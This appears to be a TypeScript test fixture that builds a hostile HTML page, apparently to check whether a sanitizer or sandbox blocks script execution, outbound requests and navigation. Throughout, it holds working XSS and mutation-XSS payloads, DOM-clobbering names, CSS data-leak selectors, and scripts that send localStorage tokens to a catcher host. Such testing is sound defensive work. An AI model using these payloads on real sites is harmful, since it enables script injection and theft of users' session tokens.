/**
 * Returns a page that tries every way to run, send and navigate. Every attempt has a name and requests `<catcher>/<name>`;
 * scripts record that they ran and take the token of the origin they run in.
 */
export function hostilePage(catcher: string): string {
  const js = (name: string): string =>
    `try{(top.ran=top.ran||[]).push('${name}')}catch(e){}(window.ran=window.ran||[]).push('${name}');` +
    `try{new Image().src='${catcher}/js-${name}?'+localStorage.token}catch(e){new Image().src='${catcher}/js-${name}'}`;
  /** For unquoted attributes: within another attribute, quotes would end that. */
  const bare = (name: string): string => js(name).replaceAll(" ", "/**/");
  const to = (name: string): string => `${catcher}/${name}`;
  const parts = [
    // Scripts, in every possible place.
    `<script>${js("script")}</script><script src="${to("script-src")}"></script>`,
    `<script type="module">${js("module")}</script>`,
    `<img src="data:,x" onerror="${js("img-error")}"><svg onload="${js("svg-load")}"><script>${js("svg-script")}</script></svg>`,
    `<details open ontoggle="${js("toggle")}"><summary>s</summary></details>`,
    `<input autofocus onfocus="${js("focus")}"><video src="data:,x" onerror="${js("video-error")}"></video>`,
    `<style>@keyframes k{to{opacity:.9}} #anim{animation:k .01s}</style><b id="anim" onanimationstart="${js("animation")}">a</b>`,
    `<iframe srcdoc="&lt;script&gt;${js("srcdoc")}&lt;/script&gt;"></iframe><iframe src="javascript:${js("frame-js")}"></iframe>`,
    `<object data="javascript:${js("object-js")}"></object><embed src="javascript:${js("embed-js")}">`,
    `<a id="js-link" href="javascript:${js("link-js")}">j</a><a id="js-spaced" href=" ja&#x0A;vascript:${js("link-spaced")}">k</a>`,
    `<svg><a id="svg-link" xlink:href="javascript:${js("svg-link")}"><text y="20">svg</text></a></svg>`,
    `<form id="js-form" action="javascript:${js("form-js")}"><button id="js-submit">b</button></form>`,
    // Markup that turns into other markup when it is parsed again.
    `<noscript><p title="</noscript><img src=data:,x onerror=${bare("noscript")}>"></noscript>`,
    `<svg></p><style><a id="</style><img src=data:,x onerror=${bare("svg-style")}>"></a></style></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:,x onerror=${bare("math")}&gt;">`,
    `</table></mtext></math><textarea><img title="</textarea><img src=data:,x onerror=${bare("textarea")}>"></textarea>`,
    `<title><b title="</title><img src=data:,x onerror=${bare("title")}>"></title>`,
    `<style><img title="</style><img src=data:,x onerror=${bare("style")}>"></style>`,
    `<svg><foreignObject><img src="data:,x" onerror="${js("foreign")}"></foreignObject><title><img src="data:,x" onerror="${js("svg-title")}"></title></svg>`,
    `<xmp><img title="</xmp><img src=data:,x onerror=${bare("xmp")}>"></xmp>`,
    `<div><template shadowrootmode="open"><script>${js("shadow")}</script><img src="data:,x" onerror="${js("shadow-img")}"></template></div>`,
    `<b data-pt-tag="script" data-pt-own="1" data-pt-href="javascript:${js("own")}">own</b>`,
    // Names that shadow properties of the document and of forms.
    `<img name="title"><img name="doctype"><img name="documentElement"><img name="body"><img name="head"><img name="baseURI">`,
    `<form><input name="childNodes"><input name="attributes"><input name="localName"><input name="nodeType"></form>`,
    // Style sheets.
    `<style>@import "${to("css-import")}"; @import url(${to("css-import-url")});`,
    `input[value^="4"]{background:url(${to("css-attribute")})} h1{background:u\\72l("${to("css-escape")}")}`,
    `p::before{content:url(${to("css-content")})} p{list-style:url(${to("css-list")});cursor:url(${to("css-cursor")}),auto;`,
    `background-image:image-set("${to("css-image-set")}" 1x);--set:"${to("css-variable")}"} i{background:image-set(var(--set) 1x)}`,
    `@font-face{font-family:x;src:url(${to("css-font")})} body{font-family:x}`,
    `@media all{div{border-image:url('${to("css-border")}') 1}}</style>`,
    `<p style="background:url(${to("style-attribute")})">p<i>i</i></p><input value="49">`,
    // Everything else that loads, sends or navigates by itself.
    `<img src="${to("img")}" srcset="${to("img-set")} 1x"><picture><source srcset="${to("source")}"><img src="${to("picture")}"></picture>`,
    `<link rel="stylesheet" href="${to("link-css")}"><link rel="preload" as="image" href="${to("preload")}">`,
    `<link rel="prefetch" href="${to("prefetch")}"><link rel="icon" href="${to("icon")}"><link rel="manifest" href="${to("manifest")}">`,
    `<iframe src="${to("frame")}"></iframe><object data="${to("object")}"></object><embed src="${to("embed")}">`,
    `<video src="${to("video")}" poster="${to("poster")}" autoplay></video><audio src="${to("audio")}" autoplay></audio>`,
    `<input type="image" src="${to("input-image")}"><table background="${to("table")}"><tr><td background="${to("cell")}">c</table>`,
    `<svg><image href="${to("svg-image")}"/><use href="${to("svg-use")}#a"/><rect width="9" height="9" fill="url(${to("svg-fill")}#a)"/></svg>`,
    `<svg><feImage href="${to("svg-feimage")}"/><image><set attributeName="href" to="${to("svg-set")}"/></image></svg>`,
    // And after a click.
    `<a id="link" href="${to("link")}" ping="${to("ping")}">l</a><a id="blank" target="_blank" href="${to("blank")}">m</a><a id="top" target="_top" href="${to("top")}">t</a>`,
    `<form id="form" action="${to("form")}"><input name="q"><button id="submit" formaction="${to("formaction")}">s</button></form>`,
    `<label><input type="file">f</label><map name="m"><area href="${to("area")}" shape="default"></map>`,
  ];
  return `<!doctype html><html><head><base href="${to("base/")}"><title>Hostile</title></head>
    <body onload="${js("body-load")}" background="${to("body")}"><h1>Kettle</h1><p id="price">$49.00</p>${parts.join("\n")}</body></html>`;
}

/** Elements of the page that react to clicks. */
export const CLICKABLE = ["js-link", "js-spaced", "svg-link", "js-submit", "link", "blank", "top", "submit"];
